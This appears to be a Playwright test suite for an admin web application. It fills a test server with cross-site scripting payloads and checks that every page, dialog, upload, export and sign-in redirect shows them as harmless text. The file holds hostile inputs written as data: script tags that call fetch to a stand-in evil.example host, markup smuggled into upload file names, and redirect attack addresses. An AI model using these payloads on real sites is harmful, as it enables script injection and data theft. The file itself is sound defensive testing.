import { randomUUID } from 'node:crypto'
import { join } from 'node:path'
import type { Page } from '@playwright/test'
import { COMMENT_MAX_LENGTH, COMMENT_REPLIES } from '../packages/api-client/src/contract/limits.ts'
import { type RunningServer, repository, START_LIMIT, startServer } from '../scripts/server.ts'
import { signIn } from './api.ts'
import { watched } from './hostilePage.ts'
import { MARK, sendHostileRows } from './hostileRows.ts'
import { listedPages, openList } from './listedPages.ts'
import { listPage } from './listPage.ts'
import { logIn } from './loginForm.ts'
import { expect, test } from './test.ts'
import { addresses, payloads } from './xssCorpus.ts'

// A separate server, whose lists are all full of attacks.
test.describe.configure({ mode: 'default' })

let server: RunningServer
let token: string

async function call<Data>(method: string, path: string, body?: unknown): Promise<Data> {
  const form = body instanceof FormData
  const response = await fetch(server.url + path, {
    method,
    headers: {
      Authorization: `Bearer ${token}`,
      ...(body !== undefined && !form && { 'Content-Type': 'application/json' }),
      ...(method === 'POST' && { 'Idempotency-Key': randomUUID() }),
    },
    ...(body !== undefined && { body: form ? body : JSON.stringify(body) }),
  })
  const answer = (await response.json()) as { data: Data }
  expect(response.ok, `${method} ${path}: ${JSON.stringify(answer)}\n${JSON.stringify(body)}`).toBe(true)
  return answer.data
}

const post = <Data = { id: string }>(path: string, body?: unknown) => call<Data>('POST', path, body)
const listed = async (path: string) => (await call<{ list: { id: string }[] }>('GET', path)).list

async function readRows(path: string, query: string): Promise<Record<string, unknown>[]> {
  const first = (await listed(`${path}?${query}`)).slice(0, 2)
  return Promise.all(
    first.map(async (row) => ({ ...row, ...(await call<object>('GET', `${path}/${row.id}`)) })),
  )
}

const upload = (name: string, content: string) => {
  const form = new FormData()
  form.append('uploadTarget', name)
  form.append('fileType', 'file')
  form.append('file', new File([content], name))
  return post<{ url: string }>('/upload/single', form)
}

test.beforeAll(async () => {
  test.setTimeout(2 * START_LIMIT)
  server = await startServer(join(repository, 'test-results/xss-server.log'))
  token = await signIn(server.url, 'admin')
  const [[agent], [role]] = await Promise.all([listed('/api/admin/agents'), listed('/api/admin/roles')])
  // A push accepts no template with unknown variables, which the attacks contain.
  const template = {
    name: 'Plain',
    channel: 'mail',
    language: 'en-US',
    subject: 'Plain',
    body: 'Plain',
    status: 'enabled',
  }
  const { id: templateId } = await post('/api/admin/message-templates', template)
  const calls = {
    post: (path: string, body: unknown) => post(path, body),
    put: (path: string, body: unknown) => call('PUT', path, body),
    readRows,
  }
  const { rows, pairs } = await sendHostileRows(calls, {
    agentId: agent?.id,
    outgoingPartyId: agent?.id,
    templateId,
    roleIds: [role?.id],
    roleId: null,
    scopePartyId: null,
    parentId: null,
  })
  for (const { path, id } of rows) if (path.endsWith('/notices')) await post(`${path}/${id}/publish`)
  console.log(`${payloads.length} payloads, ${pairs} inputs, ${rows.length} rows`)
})

test.afterAll(() => server.stop())

async function enter(page: Page) {
  await page.context().addCookies([{ name: 'token', value: token, url: server.url, sameSite: 'Strict' }])
}

test('every page and its dialogs show what attackers entered, and none of it runs', async ({ page }) => {
  // Each page and its dialogs, which are sixty by now.
  test.slow()
  const { expectUnharmed } = watched(page, server.url)
  await enter(page)
  let seen = 0
  for (const list of listedPages) {
    const { path, title } = list
    await test.step(path, async () => {
      await openList(page, list, server.url)
      const { dialog } = listPage(page, title)
      // A tree has the role treegrid.
      const rows = page.locator('tbody tr[data-row-id]')
      await expect(page.locator('[aria-busy="true"]')).toHaveCount(0)
      await expectUnharmed()
      if ((await rows.count()) === 0) return
      const hostile = rows.filter({ hasText: MARK }).first()
      const row = (await hostile.count()) > 0 ? hostile : rows.first()
      if (row === hostile) seen++
      for (const name of ['Edit', 'Details']) {
        const button = row.getByRole('button', { name, exact: true })
        if ((await button.count()) === 0) continue
        await button.click()
        await expect(dialog).toBeVisible()
        await expect(dialog.locator('[aria-busy="true"]')).toHaveCount(0)
        await expectUnharmed()
        await page.keyboard.press('Escape')
        await expect(dialog).toHaveCount(0)
      }
      if (path === '/coinMerchant/coinMerchantList') {
        await page.getByRole('button', { name: 'Views' }).click()
        await expect(page.getByRole('menuitem', { name: MARK }).first()).toBeVisible()
        await expectUnharmed()
      }
      if (path === '/system/log') {
        await rows.first().getByRole('button', { expanded: false }).first().click()
        await expect(page.getByRole('table', { name: 'Changes' }).first()).toBeVisible()
        await expectUnharmed()
      }
    })
  }
  expect(seen).toBeGreaterThanOrEqual(27)
})

test.describe('in rich text', () => {
  // The preview of a mail has an opaque origin and runs no scripts, so it can’t even load the server’s answers.
  test.use({
    expectedError: /ERR_BLOCKED_BY_RESPONSE.NotSameOrigin|Blocked script execution in 'about:srcdoc'/,
  })

  test('notices, a banner, a mail and a comment show only the markup that they allow', async ({ page }) => {
    const { expectUnharmed } = watched(page, server.url)
    const [user] = await listed('/api/admin/users')
    const fitting = payloads.filter(({ length }) => length <= COMMENT_MAX_LENGTH)
    // A thread shows its first replies.
    for (let from = 0; from < fitting.length; from += COMMENT_REPLIES) {
      const subject = { subjectKind: 'user', subjectId: user?.id, content: 'Thread' }
      const { id } = await post('/api/admin/comments/start', subject)
      for (const content of fitting.slice(from, from + COMMENT_REPLIES))
        await post(`/api/admin/comments/${id}/reply`, { content })
    }

    await enter(page)
    await page.goto(`${server.url}/home`)
    await page.getByRole('button', { name: /^Notifications/ }).click()
    const center = page.getByRole('dialog', { name: 'Notifications' })
    await center
      .getByRole('listitem')
      .filter({ hasText: MARK })
      .first()
      .getByRole('button', { expanded: false })
      .click()
    await expect(center.getByRole('listitem').filter({ hasText: '{{constructor' }).first()).toBeVisible()
    await expectUnharmed()
    await expect(page.getByRole('status').filter({ hasText: MARK }).first()).toBeVisible()

    await page.goto(`${server.url}/system/smsManage`)
    const templates = listPage(page, 'Email and SMS')
    await templates.row(MARK).first().getByRole('button', { name: 'Preview and test' }).click()
    await expect(templates.dialog.locator('iframe[title="Body"]')).toBeVisible()
    await expectUnharmed()

    await page.goto(`${server.url}/users/usersList?id=${user?.id}`)
    const users = listPage(page, 'User List')
    await users.rows.first().getByRole('button', { name: 'Details' }).click()
    await users.dialog.getByRole('tab', { name: 'Comments' }).click()
    await expect(users.dialog.getByText('{{constructor').first()).toBeAttached()
    await expectUnharmed()

    await page.goto(`${server.url}/users/usersList?nickname=${MARK}`)
    await users.rows.first().getByRole('button', { name: 'Details' }).click()
    await users.dialog.getByRole('tab', { name: 'Points' }).click()
    await expect(users.dialog.getByText(MARK).nth(1)).toBeVisible()
    await expectUnharmed()
  })
})

test('reports show notes and names of attackers as text', async ({ page }) => {
  const { expectUnharmed } = watched(page, server.url)
  await enter(page)
  const [text = ''] = payloads
  await post('/api/admin/report-notes', { time: Date.now(), wholeDay: false, text, area: null, shared: true })
  for (const area of ['overview', 'users', 'content', 'coins', 'agents']) {
    await page.goto(`${server.url}/reports/${area}`)
    await expect(page.getByRole('region', { name: 'Key figures' })).toBeVisible()
    await expectUnharmed()
  }
})

test('a conversation shows what attackers wrote as text', async ({ page }) => {
  const { expectUnharmed } = watched(page, server.url)
  await enter(page)
  await page.goto(`${server.url}/operations/feedback`)
  const { rows, dialog } = listPage(page, 'Feedback')
  await rows.first().getByRole('button', { name: 'Open', exact: true }).click()
  await expect(dialog.getByRole('list', { name: 'Conversation' }).getByText(MARK)).toBeVisible()
  await expectUnharmed()
})

test('a file that could run is downloaded and not opened; its name and exported attacks are text', async ({
  page,
}) => {
  const { expectUnharmed } = watched(page, server.url)
  const script = '<script>attacked=1;fetch("//evil.example")</script>'
  await enter(page)
  for (const [name, content] of [
    [
      "<img src=x onerror=attacked=1>'\u202Egnp.svg",
      `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`,
    ],
    ['"><script>attacked=1<.html', `<!doctype html>${script}`],
    ['javascript:attacked=1.txt', script.slice(1)],
  ] as const) {
    const { url } = await upload(name, content)
    const served = await fetch(new URL(url, server.url))
    expect(served.headers.get('Content-Disposition')).toMatch(
      /^attachment; filename="[^"<>]*"(; filename\*=UTF-8''[\w%.-]*)?$/,
    )
    expect(served.headers.get('Content-Security-Policy')).toBe(
      "default-src 'none'; frame-ancestors 'none'; sandbox",
    )
    expect(served.headers.get('Content-Type')).toBe('application/octet-stream')
    expect(served.headers.get('X-Content-Type-Options')).toBe('nosniff')
  }
  await page.goto(`${server.url}/system/uploadLog`)
  await expect(listPage(page, 'Upload Log').rows.nth(2)).toBeVisible()
  await expectUnharmed()

  const exported = await fetch(`${server.url}/api/admin/merchants/export`, {
    headers: { Authorization: `Bearer ${token}` },
  })
  expect(exported.headers.get('Content-Disposition')).toMatch(/^attachment; /)
  expect(await exported.text()).not.toMatch(/(^|[,\r\n])"?[=+@\t]/)
})

test('the sign-in page redirects to no other site and shows errors as text', async ({ page }) => {
  const { expectUnharmed } = watched(page, server.url)
  for (const address of addresses) {
    await page.goto(`${server.url}/login?redirect=${encodeURIComponent(address)}`)
    await expectUnharmed()
  }
  await logIn(page, { username: '<img src=x onerror=attacked=1>', password: payloads[0] ?? '' })
  await expect(
    page
      .getByRole('alert')
      .or(page.getByText(/wrong|incorrect|invalid|not/i))
      .first(),
  ).toBeVisible()
  await expectUnharmed()
  for (const address of addresses.slice(-6, -3)) {
    await page.context().clearCookies()
    await page.goto(`${server.url}/login?redirect=${encodeURIComponent(address)}`)
    await logIn(page, { username: 'admin' })
    await expect(page.getByRole('navigation', { name: 'Main menu' })).toBeVisible()
    expect(new URL(page.url()).origin).toBe(server.url)
    await expectUnharmed()
  }
})

test.describe('a paste', () => {
  // Chromium reports an inline handler even in a document without scripting.
  test.use({ expectedError: /inline event handler|script-src-attr inline/ })

  test('into the editor keeps only text and emphasis', async ({ page }) => {
    const { expectUnharmed } = watched(page, server.url)
    await enter(page)
    await page.goto(`${server.url}/messageNotice/notice`)
    await page.getByRole('button', { name: 'Add notice' }).click()
    const editor = page.getByRole('dialog').getByRole('textbox', { name: 'Content' })
    await editor.click()
    await editor.evaluate((element, html) => {
      const clipboardData = new DataTransfer()
      clipboardData.setData('text/html', html)
      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }))
    }, `<p>as <b>pasted</b></p>${payloads[5]}${payloads[29]}<a href="${addresses[0]}">x</a>`)
    await expect(editor.locator('strong')).toHaveText('pasted')
    await expectUnharmed()
  })
})

test.describe('the policy', () => {
  test.use({ expectedError: /policy|TrustedHTML|TrustedScript/i })

  test('rejects text as markup or script, and policies that it does not name', async ({ page }) => {
    await page.goto(`${server.url}/login`)
    const passed = await page.evaluate(async () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
      }
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => {
          document.createElement('div').innerHTML = '<b>x</b>'
        },
        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
        parseFromString: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
        srcdoc: () => {
          document.createElement('iframe').srcdoc = '<b>x</b>'
        },
        scriptText: () => {
          document.createElement('script').text = 'attacked=1'
        },
        policy: () => trustedTypes.createPolicy('default', {}),
        // The sign-in page doesn’t create this policy, which may be created once.
        secondPolicy: () => {
          trustedTypes.createPolicy('html-frame', {})
          trustedTypes.createPolicy('html-frame', {})
        },
      }
      const passed: string[] = []
      for (const [name, attempt] of Object.entries(attempts))
        try {
          attempt()
          passed.push(name)
        } catch {
          // Expected.
        }
      await fetch('https://evil.example').then(
        () => passed.push('fetch'),
        () => {},
      )
      return passed
    })
    expect(passed).toEqual([])
  })
})
